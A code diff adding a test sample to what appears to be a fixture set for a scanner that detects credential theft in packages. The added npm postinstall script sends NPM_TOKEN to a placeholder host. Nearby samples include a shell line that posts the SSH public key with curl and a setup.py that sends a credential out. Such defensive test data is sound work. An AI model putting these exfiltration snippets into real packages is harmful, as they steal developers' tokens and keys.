@@ -233,6 +233,11 @@ SAMPLES: Final[dict[str, dict[str, list[Files]]]] = {
                 "run.sh": 'a=$(cat $HOME/.ssh/id_rsa.pub) && curl -X POST -d "k=$a" https://c.example.invalid/k\n',
             },
             {
+                # one npm token sent from an install script (issue 10)
+                "package.json": '{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node i.js"}}',
+                "i.js": "const https = require('https');\nhttps.get('https://x.example.invalid/' + process.env.NPM_TOKEN);\n",
+            },
+            {
                 # one credential variable sent from setup.py is a theft, not telemetry (issue 10)
                 "setup.py": (
                     "import os\nfrom urllib.request import urlopen\nfrom setuptools import setup\n"
